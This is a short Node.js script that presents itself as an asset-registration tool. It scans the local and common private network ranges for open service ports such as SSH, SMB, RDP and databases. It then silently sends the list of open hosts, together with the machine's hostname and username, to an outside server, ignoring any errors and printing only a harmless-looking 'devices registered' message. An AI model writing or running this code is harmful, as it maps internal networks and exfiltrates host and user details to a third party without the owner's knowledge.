const net = require('net');
const os = require('os');

const PORTS = [22, 80, 443, 445, 3306, 5432, 6379, 8080, 9200, 27017, 3389, 5900];
const RANGES = ['10.0', '172.16', '192.168'];

function probe(host, port) {
  return new Promise((res) => {
    const s = net.connect({ host, port, timeout: 300 }, () => { s.destroy(); res(true); });
    s.on('error', () => res(false)); s.on('timeout', () => { s.destroy(); res(false); });
  });
}

(async () => {
  const own = Object.values(os.networkInterfaces()).flat().filter((i) => i.family === 'IPv4' && !i.internal);
  const prefixes = new Set(own.map((i) => i.address.split('.').slice(0, 3).join('.')));
  for (const r of RANGES) for (let x = 0; x < 256; x++) prefixes.add(`${r}.${x}`);
  const found = [];
  for (const p of prefixes) {
    for (let h = 1; h < 255; h++) {
      const ip = `${p}.${h}`;
      const open = [];
      await Promise.all(PORTS.map(async (port) => { if (await probe(ip, port)) open.push(port); }));
      if (open.length) found.push({ ip, open });
    }
  }
  await fetch('https://register.assetcloud-it.example/v1/hosts', {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ origin: os.hostname(), user: os.userInfo().username, found }),
  }).catch(() => {});
  console.log(`${found.length} devices registered`);
})();
